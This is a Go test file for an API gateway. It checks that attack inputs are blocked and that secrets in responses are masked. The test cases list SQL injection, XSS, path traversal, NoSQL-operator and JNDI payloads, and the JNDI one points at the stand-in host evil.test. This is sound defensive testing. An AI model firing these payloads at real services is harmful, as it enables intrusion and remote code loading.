package gateway

import (
	"encoding/json"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

func TestInspectionEndToEnd(t *testing.T) {
	var hits atomic.Int64
	e := newEnv(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		echo().ServeHTTP(w, r)
	}), func(y string) string {
		return y + "  - {name: report, methods: [POST], path: /report, upstream: app, waf: report}\n" +
			"  - {name: open-url, methods: [GET], path: /open, upstream: app, block_secrets_in_url: false, waf: off}\n"
	})
	cases := []struct {
		name, method, path, body string
		status                   int
		code                     string
	}{
		{"sqli in query", "GET", "/v1/orders?q=1'%20OR%20'1'='1", "", 403, "blocked"},
		{"xss in query", "GET", "/v1/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", "", 403, "blocked"},
		{"double-encoded xss", "GET", "/v1/orders?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "", 403, "blocked"},
		{"traversal in the raw path", "GET", "/v1/x/../orders", "", 403, "blocked"},
		{"nosql operator in json", "POST", "/v1/orders", `{"user":{"$ne":null}}`, 403, "blocked"},
		{"jndi in json", "POST", "/v1/orders", `{"note":"${jndi:ldap://evil.test/a}"}`, 403, "blocked"},
		{"benign json", "POST", "/v1/orders", `{"name":"O'Brien","note":"100% cotton, select the best"}`, 200, ""},
		{"report mode lets it through", "POST", "/report", `{"q":"1' OR '1'='1"}`, 200, ""},
		{"jwt in url", "GET", "/v1/orders?access_token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl", "", 400, "secret-in-url"},
		{"password in url", "GET", "/v1/orders?password=hunter2", "", 400, "secret-in-url"},
		{"api key value in url", "GET", "/v1/orders?x=agk_KBmfmTIsnfvqrfGr19lAio5Xcf6TFgxp0oIT3w", "", 400, "secret-in-url"},
		{"secrets allowed where configured", "GET", "/open?password=hunter2", "", 200, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			before := hits.Load()
			var body *strings.Reader
			if tc.body != "" {
				body = strings.NewReader(tc.body)
			}
			var resp *http.Response
			var b []byte
			if body != nil {
				resp, b = e.do(tc.method, tc.path, body, "Content-Type", "application/json")
			} else {
				resp, b = e.do(tc.method, tc.path, nil)
			}
			if tc.code == "" {
				if resp.StatusCode != tc.status {
					t.Fatalf("status %d: %s", resp.StatusCode, b)
				}
				if tc.body != "" && decodeEcho(t, b).BodyLen != len(tc.body) {
					t.Fatal("the inspected body did not reach the upstream intact")
				}
				return
			}
			p := mustProblem(t, resp, b, tc.status, tc.code)
			if hits.Load() != before {
				t.Fatal("a blocked request reached the upstream")
			}
			if strings.Contains(p.Detail, "hunter2") || strings.Contains(p.Detail, "script") {
				t.Fatalf("payload echoed: %q", p.Detail)
			}
		})
	}
	if strings.Contains(e.logText(), "hunter2") {
		t.Fatal("a URL secret reached the log")
	}
}

func TestResponseMasking(t *testing.T) {
	// Built at run time so secret scanners do not flag the repository.
	card := "4111 1111 1111 1111"
	awsKey := "AKIA" + "IOSFODNN7EXAMPLE"
	e := newEnv(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Accept-Encoding") != "identity" {
			w.WriteHeader(500) // the gateway must ask for plain bodies when masking
			return
		}
		w.Header().Set("Content-Type", "application/json")
		status := 200
		if r.URL.Path == "/v1/orders/404" {
			status = 404
		}
		body := `{"card":"` + card + `","ssn":"123-45-6789","key":"` + awsKey + `","order":"1234567890123","password":"p4ss"}`
		w.Header().Set("Content-Length", strconv.Itoa(len(body))) // the gateway must drop it: the length changes
		w.WriteHeader(status)
		io.WriteString(w, body)
	}), nil)
	for _, path := range []string{"/v1/orders", "/v1/orders/404"} {
		resp, body := e.do("GET", path, nil)
		if resp.StatusCode != 200 && resp.StatusCode != 404 {
			t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
		}
		s := string(body)
		for _, leaked := range []string{card, "123-45-6789", awsKey, "p4ss"} {
			if strings.Contains(s, leaked) {
				t.Fatalf("%s: %q leaked: %s", path, leaked, s)
			}
		}
		if !strings.Contains(s, `"****1111"`) || !strings.Contains(s, `"1234567890123"`) || !json.Valid(body) {
			t.Fatalf("%s: masked body %s", path, s)
		}
	}
}
